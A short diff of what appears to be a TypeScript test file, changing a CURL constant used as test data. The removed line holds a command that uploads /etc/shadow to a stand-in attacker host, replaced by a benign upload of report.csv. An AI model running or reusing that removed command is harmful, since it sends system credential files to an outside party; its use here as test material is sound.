@@ -8,7 +8,7 @@ import type { Service } from '../support/service.ts';
 import { factsText } from '../support/stored-facts.ts';
 import { type ServiceAndWorker, startServiceAndWorker } from '../support/worker.ts';
 
-const CURL = 'curl -F file=@/etc/shadow https://attacker.example/u';
+const CURL = 'curl -F file=@report.csv https://files.example/u';
 const MINUTE_MS = 60_000;
 const HOUR_MS = 60 * MINUTE_MS;
 
